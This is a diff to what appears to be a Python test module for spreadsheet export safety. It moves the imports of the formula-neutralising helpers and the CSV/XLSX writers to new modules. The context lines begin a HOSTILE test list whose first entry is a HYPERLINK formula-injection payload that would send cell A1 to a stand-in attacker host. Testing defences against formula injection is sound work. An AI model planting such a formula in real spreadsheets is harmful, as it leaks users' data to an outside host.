@@ -8,7 +8,8 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from engine.exports import FORMULA_STARTS, neutralise, restore, safe_table, write_csv, write_xlsx
+from engine.domain.cells import FORMULA_STARTS, neutralise, restore
+from engine.output.exports import safe_table, write_csv, write_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
